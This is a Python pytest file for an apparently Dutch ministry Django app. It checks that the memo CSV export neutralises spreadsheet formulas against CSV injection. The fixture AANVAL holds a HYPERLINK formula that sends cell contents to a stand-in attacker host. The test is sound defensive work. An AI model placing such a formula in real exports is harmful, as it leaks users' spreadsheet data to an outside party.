"""The memo CSV export never hands a spreadsheet a formula (issue 13 §5, OWASP CSV injection)."""

from __future__ import annotations

from typing import Any

import pytest
from django.test import Client

from ministerie.organisatie.models import Eenheid
from ministerie.stukken import services

pytestmark = pytest.mark.django_db

AANVAL = '=HYPERLINK("http://aanvaller.example/?d="&A1,"Klik")'


def test_notas_csv_zet_een_apostrof_voor_een_formule(lijn: dict[str, Any], client: Client) -> None:
    services.maak_nota(
        door=lijn["beleid"],
        soort="beslisnota",
        onderwerp=AANVAL,
        aan="de minister",
        eenheid=Eenheid.objects.get(code="woningbouw-woningbouwbeleid"),
        beslispunten=["Akkoord"],
    )
    client.force_login(lijn["beleid"])
    csv_tekst = client.get("/stukken/notas.csv").content.decode("utf-8-sig")
    assert "'" + AANVAL.replace('"', '""') in csv_tekst
    assert ";" + AANVAL not in csv_tekst and '";=' not in csv_tekst
